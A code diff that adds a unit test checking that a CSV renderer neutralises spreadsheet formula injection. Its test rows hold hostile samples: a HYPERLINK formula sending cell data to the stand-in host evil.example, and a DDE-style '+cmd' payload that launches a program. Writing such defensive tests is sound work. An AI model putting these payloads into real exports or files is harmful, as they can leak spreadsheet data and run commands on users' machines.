@@ -37,6 +37,17 @@ describe('renderRows', () => {
     );
   });
 
+  it('neutralises CSV cells a spreadsheet would run as a formula (= + - @), quoting them when needed, and leaves numbers', async () => {
+    const hostile: Row[] = [
+      { id: '=HYPERLINK("http://evil.example/?x="&A1,"click")', name: '+cmd|\' /C calc\'!A0', size: 1 },
+      { id: '-2+3', name: '@SUM(1+1)', size: -1 },
+      { id: '-1', name: '+3.5e2', size: 2 },
+    ];
+    expect(await renderRows(hostile, COLUMNS, options('csv', { headers: false }))).toBe(
+      [`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",'+cmd|' /C calc'!A0,1`, `'-2+3,'@SUM(1+1),-1`, '-1,+3.5e2,2', ''].join('\n'),
+    );
+  });
+
   it('writes TSV whose only tabs separate fields', async () => {
     const text = await renderRows(ROWS, COLUMNS, options('tsv', { headers: false }));
     expect(text).toBe(['a1\tplain\t1', 'b2\twith,comma\t22', 'c3\tsay "hi"\t333', 'd4\ttwo\\x0alines\t4', 'e5\ttab\\x09here\t5', ''].join('\n'));
